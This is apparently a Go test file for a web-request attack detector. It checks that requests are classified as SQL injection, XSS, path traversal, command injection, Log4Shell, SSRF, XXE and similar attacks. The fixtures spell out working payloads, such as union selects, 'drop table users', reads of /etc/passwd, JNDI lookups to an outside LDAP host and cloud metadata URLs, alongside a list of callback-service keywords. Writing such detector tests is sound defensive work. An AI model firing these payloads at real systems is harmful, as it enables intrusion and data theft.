package inspect

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/portcullis/portcullis/ingest"
)

func TestVerdicts(t *testing.T) {
	q := func(s string) string { return "/x?id=" + url.QueryEscape(s) }
	for _, c := range []struct {
		name, class, field string
		certain            bool
		ev                 ingest.Event
	}{
		{"union", "sqli", "query.id", true, ingest.Event{Target: q("-1' union all select null,user(),3-- ")}},
		{"union in comments", "sqli", "query.id", true, ingest.Event{Target: q("1/**/uNiOn/*x*/SeLeCt/**/1,2,3")}},
		{"union executable comment", "sqli", "query.id", true, ingest.Event{Target: q("0/*!50000union*//*!50000select*/1,2")}},
		{"tautology", "sqli", "query.id", false, ingest.Event{Target: q("x' or 'a'='a")}},
		{"tautology, double encoded", "sqli", "query.id", false, ingest.Event{Target: "/x?id=x%2527%2520or%2520%2527a%2527=%2527a"}},
		{"numeric", "sqli", "query.id", false, ingest.Event{Target: "/x?id=1+or+1=1"}},
		{"attack in the name", "sqli", "query (name)", false, ingest.Event{Target: "/x?1'+or+'1'='1"}},
		{"stacked", "sqli", "query.id", false, ingest.Event{Target: q("1; drop table users")}},
		{"in a path", "sqli", "path", false, ingest.Event{Target: "/items/1'%20or%20'1'='1"}},
		{"script", "xss", "query.id", false, ingest.Event{Target: q("<script>alert(1)</script>")}},
		{"handler", "xss", "query.id", false, ingest.Event{Target: q("<img src=x onerror=alert(1)>")}},
		{"entities", "xss", "query.id", false, ingest.Event{Target: q("&lt;svg/onload&equals;alert&lpar;1&rpar;>")}},
		{"full width", "xss", "query.id", false, ingest.Event{Target: q("＜script＞alert(1)＜/script＞")}},
		{"base64", "xss", "query.id (base64)", false, ingest.Event{Target: "/x?id=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}},
		{"passwd", "traversal", "query.id", true, ingest.Event{Target: q("../../../../etc/passwd")}},
		{"passwd, overlong", "traversal", "path", true, ingest.Event{Target: "/static/..%c0%af..%c0%af..%c0%afetc/passwd"}},
		{"backslashes", "traversal", "query.id", true, ingest.Event{Target: `/x?id=..%5c..%5c..%5cwindows%5cwin.ini`}},
		{"wrapper", "rfi", "query.id", false, ingest.Event{Target: q("php://filter/convert.base64-encode/resource=index")}},
		{"command", "cmdi", "query.id", false, ingest.Event{Target: q("127.0.0.1; cat /etc/hosts")}},
		{"command, quotes inside", "cmdi", "query.id", false, ingest.Event{Target: q(`x;c'a't${IFS}/etc/pas\swd`)}},
		{"substitution", "cmdi", "query.id", false, ingest.Event{Target: q("$(whoami)")}},
		{"lookup", "log4shell", "agent", true, ingest.Event{Target: "/", Agent: "${jndi:ldap://192.0.2.1/a}"}},
		{"lookup, nested", "log4shell", "referer", true, ingest.Event{Target: "/", Referer: "${${::-j}${lower:N}${upper:d}${env:X:-i}:ldap://192.0.2.1/a}"}},
		{"lookup in a referer's query", "log4shell", "referer.q", true, ingest.Event{Target: "/", Referer: "https://www.example.com/?q=%24%7Bjndi:rmi://x%7D"}},
		{"template", "ssti", "query.id", false, ingest.Event{Target: q("{{7*7}}")}},
		{"operator key", "nosqli", "query (name)", false, ingest.Event{Target: "/login?user[$ne]=x"}},
		{"ldap", "ldap", "query.id", false, ingest.Event{Target: q("*)(uid=*))(|(uid=*")}},
		{"shellshock", "shellshock", "agent", true, ingest.Event{Target: "/", Agent: "() { :;}; /bin/id"}},
		{"splitting", "crlf", "query.id", false, ingest.Event{Target: "/x?id=a%0d%0aSet-Cookie:%20a=b"}},
		{"metadata", "ssrf", "query.id", false, ingest.Event{Target: q("http://169.254.169.254/latest/meta-data/")}},
		{"prototype", "prototype-pollution", "query (name)", false, ingest.Event{Target: "/x?__proto__[admin]=1"}},
		{"include directive", "ssi", "query.id", false, ingest.Event{Target: q(`<!--#exec cmd="id"-->`)}},
		{"java object", "deserialisation", "query.id", false, ingest.Event{Target: q("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")}},
		{"logged body", "xxe", "body", true, ingest.Event{Target: "/", Body: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`}},
	} {
		in := New(Config{})
		v := in.Inspect(&c.ev)
		if v.Score < in.Threshold() || !slices.Contains(v.Classes, c.class) || v.Field != c.field || c.certain && !v.NearCertain {
			t.Errorf("%s: %+v, want %s in %s, certain %v", c.name, v, c.class, c.field, c.certain)
		}
		if v.Why == "" || v.Matched == "" {
			t.Errorf("%s: no reason or no fragment: %+v", c.name, v)
		}
		for _, method := range []string{"", "POST", "BREW"} {
			ev := c.ev
			ev.Method, ev.Status = method, 404
			if w := in.Inspect(&ev); w.Score != v.Score {
				t.Errorf("%s: %s scores %d, not %d", c.name, method, w.Score, v.Score)
			}
		}
	}
}

func TestBodies(t *testing.T) {
	in := New(Config{})
	for _, c := range []struct{ contentType, body, class, field string }{
		{"application/x-www-form-urlencoded", "a=1&user=x%27+or+%271%27%3D%271", "sqli", "body.user"},
		{"application/json", `{"a":[1,{"user":"x' or '1'='1"}]}`, "sqli", "body.a.[].user"},
		{"application/json", `{"user":{"$ne":null}}`, "nosqli", "body"},
		{"application/json", `{"a":"<script>alert(1)</script>`, "xss", "body"},
		{"multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n../../../etc/passwd\r\n--b--", "traversal", "body.f"},
		{"text/xml", `<a b="1"><c>&lt;script>alert(1)&lt;/script></c></a>`, "xss", "body"},
		{"text/plain", "$(cat /etc/passwd)", "cmdi", "body"},
		{"multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.PhP. \"\r\n\r\nx\r\n--b--", "code", "body (name)"},
	} {
		v := in.InspectRequest("POST", "/", [][2]string{{"Content-Type", c.contentType}}, c.body)
		if v.Score < in.Threshold() || !slices.Contains(v.Classes, c.class) || v.Field != c.field {
			t.Errorf("%s: %+v, want %s in %s", c.body, v, c.class, c.field)
		}
	}
	for name, want := range map[string]bool{"shell.jsp": true, "a.asp::$DATA": true, ".htaccess": true, "asp.net.pdf": false, "php": false, "photo.jpg": false, "notes.txt": false} {
		v := in.InspectRequest("POST", "/", [][2]string{{"X-Filename", name}}, "x")
		if got := v.Class == "code" && v.Score >= in.Threshold(); got != want {
			t.Errorf("upload of %q: %+v", name, v)
		}
	}
	v := in.InspectRequest("GET", "/", [][2]string{{"X-Api-Version", "${jndi:ldap://192.0.2.1/a}"}, {"Cookie", "a=b; c=d"}}, "")
	if v.Field != "header.x-api-version" || !v.NearCertain {
		t.Errorf("header: %+v", v)
	}
	v = in.InspectRequest("GET", "/", [][2]string{{"Cookie", "a=b; id=1' union select 1,2,3-- "}}, "")
	if v.Field != "cookie.id" || v.Class != "sqli" {
		t.Errorf("cookie: %+v", v)
	}
}

// TestMatchedIsRedacted demands that a fragment shows the attack but no secret.
func TestMatchedIsRedacted(t *testing.T) {
	in := New(Config{})
	v := in.Inspect(&ingest.Event{Target: "/x?q=" + url.QueryEscape("x' or 1=1 and password=hunter2 and card=4111111111111111 -- \x01")})
	if v.Score < 50 || strings.Contains(v.Matched, "hunter2") || strings.Contains(v.Matched, "11111111") || !strings.Contains(v.Matched, "or 1=1") {
		t.Errorf("%+v", v)
	}
}

// TestThreshold moves the bar for Classes; the score stays what it is.
func TestThreshold(t *testing.T) {
	ev := &ingest.Event{Target: "/x?a=" + url.QueryEscape("<svg>") + "&b=" + url.QueryEscape("../../x")}
	low, high := New(Config{Threshold: 10}), New(Config{Threshold: 99})
	a, b := low.Inspect(ev), high.Inspect(ev)
	if len(a.Classes) < 2 || len(b.Classes) != 1 || a.Score != b.Score {
		t.Errorf("%+v and %+v", a, b)
	}
}

// TestCutIsSaid demands that a verdict on a part of a request says so.
func TestCutIsSaid(t *testing.T) {
	in := New(Config{MaxBytes: 256})
	v := in.Inspect(&ingest.Event{Target: "/x?a=<script>alert(1)</script>&b=" + strings.Repeat("z", 500)})
	if v.Score < 50 || !strings.Contains(v.Why, "longer than what is inspected") {
		t.Errorf("%+v", v)
	}
}

// TestParameterFlood hides an attack behind more parameters than are read one
// by one.
func TestParameterFlood(t *testing.T) {
	in := New(Config{})
	v := in.Inspect(&ingest.Event{Target: "/x?" + strings.Repeat("a=1&", 300) + "b=1'+union+select+1,2,3--"})
	if v.Class != "sqli" || !v.NearCertain {
		t.Errorf("%+v", v)
	}
}

// TestGatesAgree demands that the raw gate lets through what the text gate
// looks for: each of its words has a byte that decodes, or is known to both.
func TestGatesAgree(t *testing.T) {
	for _, l := range textLiterals {
		if strings.ContainsAny(l.word, "N ") { // a blank or another byte around a word
			continue
		}
		switch l.word {
		case "_/", "/var/", "/root", "/usr/", "/opt/", "/home/", "system32", "union", "select", "ping", "allow_url", "auto_pre", "errorlevel", "cmdextv", "opensym", "tefact", "onefact", "sloader", "transfo":
			continue // counts only behind '=', '?' or '/', or with blanks: fuzzing holds that
		case "interact.sh", "burpcoll", "dnslog", "bxss.":
			continue // counts in agents only, which the raw gate does not read
		}
		if !rawBytes.hit("x" + l.word + "x") {
			t.Errorf("the raw gate stops %q", l.word)
		}
	}
}

func TestConfigCheck(t *testing.T) {
	var keys []string
	Config{Threshold: 101, MaxBytes: -1, MaxRounds: 9}.Check(func(key, _ string) { keys = append(keys, key) })
	if !slices.Equal(keys, []string{"threshold", "max_bytes", "max_rounds"}) {
		t.Error(keys)
	}
	Config{Threshold: 50, MaxBytes: 8192, MaxRounds: 4}.Check(func(key, message string) { t.Error(key, message) })
}

// TestCrowdedTarget demands that the first pass lets through plain parameters of which the
// last are read as one text, where & parts commands.
func TestCrowdedTarget(t *testing.T) {
	in := New(Config{})
	query := "/x?q=" + strings.Repeat("nc&", maxFields+8)
	for _, ev := range []*ingest.Event{{Target: query}, {Target: "/", Referer: "https://www.example.com" + query}} {
		if v := in.full(ev); v.Score == 0 || !in.Suspicious(ev) {
			t.Errorf("%+v scores %d, and the first pass lets it through: %v", ev, v.Score, in.Suspicious(ev))
		}
	}
}
